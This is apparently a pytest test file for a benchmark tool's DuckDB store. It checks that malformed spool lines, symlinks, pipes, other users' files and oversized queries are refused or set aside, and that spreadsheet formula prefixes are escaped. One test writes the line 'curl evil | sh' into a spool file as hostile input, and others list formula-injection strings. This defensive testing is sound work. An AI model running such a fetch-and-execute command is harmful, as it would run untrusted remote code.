"""Odd files: what does not fit is set aside, what is another's stays his, what was removed is made anew."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from structbench.errors import BadInput, RunFailed
from structbench.output import spreadsheet_sql, spreadsheet_text, writable_path
from structbench.store import Reader, Store, database, schema
from structbench.store.database import ask
from structbench.store.spool import Spool
from structbench.store.upkeep import spool_of
from structbench.suites.files import read_suite
from tests.support.databases import RUN, held, read, request

pytestmark = pytest.mark.slow


@pytest.fixture
def path(tmp_path: Path) -> Path:
    path = tmp_path / "db.duckdb"
    with Store(path) as store:
        store.append("runs", {**RUN, "status": "complete", "verdict": "valid"})
        store.append("requests", request(0))
    return path


MISFITS = [
    b"no JSON\n", b"[1]\n", b'{"table":"runs"}\n', b'{"table":"nowhere","row":{}}\n', b'{"table":["runs"],"row":{}}\n',
    b'{"table":"requests","row":{"run_id":"r"}}\n', b'{"table":"requests","row":[]}\n', b"[" * 100_000 + b"\n",
    b'{"table":"requests","row":{"run_id":"r","request_index":1,"colour":1}}\n',
    b'{"table":"requests","row":{"run_id":"r","request_index":1,"ttft_s":"fast"}}\n',
    b'{"table":"requests","row":{"run_id":"r","request_index":{"a":1}}}\n',
]  # fmt: skip


def test_lines_that_do_not_fit_are_set_aside_with_one_warning_and_stop_no_other(
    path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    dead = Spool(spool_of(path))
    dead.append("requests", request(7))
    with (dead.folder / f"{dead.owner}.00000000.jsonl").open("ab") as file:
        file.write(b"".join(MISFITS))
        file.write(json.dumps({"table": "requests", "row": request(8)}).encode() + b"\n")
    dead.close()
    before = os.umask(0o022)
    with Reader(path) as reader:
        rows = reader.query("SELECT request_index AS i FROM requests ORDER BY ALL")
    os.umask(before)
    assert [row["i"] for row in rows] == [0, 7, 8]
    (kept,) = spool_of(path).iterdir()
    assert kept.suffix == ".bad"
    assert kept.stat().st_mode & 0o077 == 0
    assert len(kept.read_bytes().splitlines()) == len(MISFITS)
    assert caplog.text.count("do not fit and are kept in") == 1
    caplog.clear()
    with Reader(path):
        assert caplog.text == ""


def test_lines_that_do_not_fit_stop_no_load_while_a_reader_has_the_file_and_are_set_aside_once(path: Path) -> None:
    dead = Spool(spool_of(path))
    dead.append("requests", request(7))
    with (dead.folder / f"{dead.owner}.00000000.jsonl").open("ab") as file:
        file.write(b"".join(MISFITS))
    dead.close()
    with held(path, "read") as release, Store(path, patience_s=0.1) as store:
        assert len(store.query("SELECT request_index FROM requests", timeout_s=0.1)) == 2
        assert list(dead.folder.glob("*.bad")) == []
        release()
        assert store.flush()
        (kept,) = dead.folder.glob("*.bad")
        assert len(kept.read_bytes().splitlines()) == len(MISFITS)


@pytest.mark.parametrize("odd", ["db.duckdb", "db.duckdb.wal"])
def test_a_pipe_in_the_place_of_a_file_is_refused_and_not_waited_for(path: Path, odd: str) -> None:
    pipe = path.with_name(odd)
    pipe.unlink(missing_ok=True)
    os.mkfifo(pipe)
    for opened in (Reader, Store):
        with pytest.raises(BadInput, match="is not a regular file: give another --db"):
            opened(path)


def test_a_name_that_is_no_utf_8_is_refused_in_one_line(tmp_path: Path) -> None:
    odd = Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff"))
    odd.mkdir()
    for opened in (Reader, Store):
        with pytest.raises(BadInput, match="is not UTF-8: give another"):
            opened(odd / "db.duckdb")
    with pytest.raises(BadInput, match="is not UTF-8: give another"), writable_path(odd / "out.csv", []):
        pass


def test_links_in_a_spool_lead_nowhere(path: Path, tmp_path: Path) -> None:
    """A folder that somebody packed may hold links to files of ours: nothing is read, written or removed there."""
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "profile").write_text("export A=1\n")
    (mine / "data.jsonl").write_text("{}\n")
    spool = spool_of(path)
    dead = Spool(spool)
    dead.append("requests", request(7))
    dead.close()
    (file,) = spool.glob("*.jsonl")
    file.write_bytes(file.read_bytes() + b"curl evil | sh\n")
    (spool / f"{dead.owner}.bad").symlink_to(mine / "profile")
    (spool / "1-other.lock").symlink_to(mine / "made")
    (spool / "1-other.00000000.jsonl").symlink_to(mine / "data.jsonl")
    (spool / "data.jsonl").write_text("{}\n")
    with Reader(path) as reader:
        assert reader.query("SELECT max(request_index) AS n FROM requests") == [{"n": 7}]
    assert {each.name: each.read_text() for each in mine.iterdir()} == {
        "profile": "export A=1\n", "data.jsonl": "{}\n"
    }  # fmt: skip
    assert (spool / f"{dead.owner}.bad").read_text() == "curl evil | sh\n"
    assert (spool / "data.jsonl").exists()


def test_a_spool_that_is_a_link_is_refused_by_a_load_and_left_alone_by_readers(path: Path, tmp_path: Path) -> None:
    dead = Spool(tmp_path / "elsewhere")
    dead.append("requests", request(7))
    dead.close()
    spool_of(path).symlink_to(dead.folder)
    with Reader(path) as reader:
        assert reader.query("SELECT max(request_index) AS n FROM requests") == [{"n": 0}]
    with pytest.raises(BadInput, match="it is a link"):
        Store(path)
    assert len(list(dead.folder.glob("*.jsonl"))) == 1


def test_the_spool_of_another_user_is_not_taken_in(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    dead = Spool(spool_of(path))
    dead.append("requests", request(7))
    dead.close()
    with monkeypatch.context() as patch:
        patch.setattr(os, "geteuid", lambda: 4711)
        with Reader(path) as reader:
            assert reader.query("SELECT count(*) AS n FROM requests") == [{"n": 1}]
    with Reader(path) as reader:
        assert reader.query("SELECT count(*) AS n FROM requests") == [{"n": 2}]


def test_prompts_and_answers_are_their_owners_only(tmp_path: Path) -> None:
    path = tmp_path / "new.duckdb"
    with Store(path) as store:
        store.append("requests", request(0))
        made = [path, spool_of(path), *spool_of(path).iterdir()]
        assert {oct(each.stat().st_mode & 0o077) for each in made} == {"0o0"}


def _remove(path: Path) -> None:
    path.unlink()


def _make_anew(path: Path) -> None:
    path.unlink()  # Linux gives the number of what was removed to the next that is made
    Store(path).close()


def _replace(path: Path) -> None:
    Store(path.with_name("other.duckdb")).close()
    path.with_name("other.duckdb").replace(path)


def _replace_by_an_older_one(path: Path) -> None:
    with duckdb.connect(path.with_name("other.duckdb")) as con, pytest.MonkeyPatch.context() as patch:
        patch.setattr(schema, "MIGRATIONS", schema.MIGRATIONS[:1])
        patch.setattr(schema, "views_sql", lambda: "CREATE VIEW summary AS SELECT 'older' AS run_id")
        schema.migrate(con, 0)
    path.with_name("other.duckdb").replace(path)


@pytest.mark.parametrize("goes", [_remove, _make_anew, _replace, _replace_by_an_older_one])
def test_a_file_that_goes_amid_a_load_is_made_anew_with_the_run_that_goes_on(
    path: Path, goes: Callable[[Path], None], capsys: pytest.CaptureFixture[str]
) -> None:
    with Store(path) as store:
        store.append("runs", {**RUN, "run_id": "live", "label": "mine"})
        store.append("segments", {"run_id": "live", "segment": 0, "workers": 3})
        assert store.flush()
        goes(path)
        store.append("requests", {"run_id": "live", "request_index": 5})
        assert store.flush()
        store.append("runs", {"run_id": "live", "status": "complete", "verdict": "valid"})
    assert read(path, "SELECT run_id, label, status FROM runs") == [("live", "mine", "complete")]
    assert read(path, "SELECT workers FROM segments") == [(3,)]
    assert read(path, "SELECT request_index FROM requests") == [(5,)]
    assert ("was removed" in capsys.readouterr().err) == (goes is _remove)


def test_a_file_of_another_program_in_its_place_ends_the_load_in_one_line_and_stays_as_it_is(path: Path) -> None:
    store = Store(path)
    store.append("runs", RUN)
    assert store.flush()
    path.unlink()
    with duckdb.connect(path) as con:
        con.execute("CREATE TABLE requests (a INTEGER)").fetchall()
    store.append("requests", request(1))
    with pytest.raises(RunFailed, match="a table 'requests' that structbench did not make") as caught:
        store.flush()
    with pytest.raises(RunFailed):
        store.close()
    assert "\n" not in str(caught.value)
    assert read(path, "SELECT count(*) FROM requests") == [(0,)]


def test_what_processes_that_died_left_beside_it_is_swept(path: Path) -> None:
    old = time.time() - 3600
    ours, theirs, young = (
        path.with_name(f".{path.name}.{name}") for name in (f"{os.getpid()}-1", "99999999-1", "99999999-2")
    )
    for each in (ours, theirs, young):
        each.touch()
        if each is not young:
            os.utime(each, (old, old))
    Store(path).close()
    assert [each.exists() for each in (ours, theirs, young)] == [True, False, True]


def test_a_pipe_or_a_device_is_no_suite(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.jsonl")
    for each in (tmp_path / "fifo.jsonl", Path("/dev/zero")):
        with pytest.raises(BadInput, match="is not a regular file"):
            list(read_suite(each))


def test_a_statement_that_takes_too_long_is_stopped(path: Path) -> None:
    with pytest.raises(RunFailed, match=r"stopped after 0\.2 s"):
        ask(
            path,
            "SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range * b.range % 7 = 3",
            timeout_s=0.2,
        )


def test_a_result_that_takes_too_much_memory_is_stopped(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(database, "MOST_BYTES", 20 << 20)
    with pytest.raises(RunFailed, match=r"stopped after [\d,]+ rows, which take .* GB: select fewer"):
        ask(path, "FROM range(1000000)")


@pytest.mark.skipif(sys.platform != "linux", reason="needs a limit of memory for each process")
def test_large_values_are_stopped_before_they_take_the_machine(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = resource.getrlimit(resource.RLIMIT_DATA)
    monkeypatch.setattr(database, "_MOST_MORE", 300 << 20)
    with pytest.raises(RunFailed, match="stopped: it takes more memory than it may"):
        ask(path, "SELECT [repeat('x', 10000000 + range)] FROM range(2000)")
    assert ask(path, "SELECT 1").rows == [(1,)]
    assert resource.getrlimit(resource.RLIMIT_DATA) == before


def test_few_large_rows_are_too_many_as_well(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(database, "MOST_BYTES", 20 << 20)
    wide = "SELECT {'a': [repeat('x', 1000000 + range)]} AS w FROM range(40)"
    with pytest.raises(RunFailed, match=r"stopped after 2\d rows"):
        ask(path, wide, 30)
    assert len(ask(path, wide, 3).rows) == 3
    assert ask(path, wide, 3).more
    assert not ask(path, "FROM range(3)", 3).more


def test_a_statement_that_has_no_name_is_refused_in_one_line(path: Path) -> None:
    with pytest.raises(BadInput):
        ask(path, "UPDATE EXTENSIONS")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"), ("+a", "'+a"), ("-a", "'-a"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        ("\n=x", "'\n=x"),
        ("'=x", "''=x"), ("-5", "-5"), ("+1.5e-3", "+1.5e-3"), ("-5 + 3", "'-5 + 3"), ("plain", "plain"),
        ("", ""), ("'x", "'x"), (None, None), (-5, -5), ("x=1", "x=1"),
        *((f"{sign}1", f"'{sign}1") for sign in "\uff1d\uff0b\uff0d\uff20"),
    ],
)  # fmt: skip
def test_text_that_is_a_formula_to_a_spreadsheet_is_shown_as_text_and_numbers_stay(text: object, shown: object) -> None:
    assert spreadsheet_text(text) == shown
    if isinstance(text, str):
        with duckdb.connect() as con:
            assert con.execute(f"SELECT {spreadsheet_sql('x')} FROM (SELECT $1 AS x)", [text]).fetchall() == [(shown,)]


def test_what_dead_processes_left_beside_a_file_is_swept_and_nothing_else(path: Path, tmp_path: Path) -> None:
    with subprocess.Popen(["true"]) as gone:
        pass
    old = time.time() - 3600
    left = [f".{name}.{gone.pid}-{what}" for name, what in (
        ("db.duckdb", "0"), ("db.duckdb", "0.wal"), ("db.duckdb", "1.tmp"), ("out.csv", "part"),
    )]  # fmt: skip
    kept = [f".db.duckdb.{os.getpid()}-9", ".db.duckdb.mine", "db.duckdb.tmp", f".other.{gone.pid}-0"]
    for name in (*left, *kept):
        made = tmp_path / name
        if name.endswith(".tmp"):
            made.mkdir()
            (made / "duckdb_temp_storage-0.tmp").write_bytes(b"x")
        else:
            made.touch()
        os.utime(made, (old, old))
    young = tmp_path / f".db.duckdb.{gone.pid}-7"
    young.touch()
    with Reader(path):
        pass
    with writable_path(tmp_path / "out.csv", [path]) as made:
        made.write_text("a")
    assert [name for name in left if (tmp_path / name).exists()] == []
    assert [name for name in (*kept, young.name) if not (tmp_path / name).exists()] == []


def test_two_that_read_one_file_do_not_share_what_duckdb_puts_aside(path: Path) -> None:
    with Reader(path) as one, Reader(path) as other:
        asked = "SELECT current_setting('temp_directory') AS folder"
        folders = {reader.query(asked)[0]["folder"] for reader in (one, other)}
    assert len(folders) == 2
    assert all(Path(folder).parent == path.parent for folder in folders)
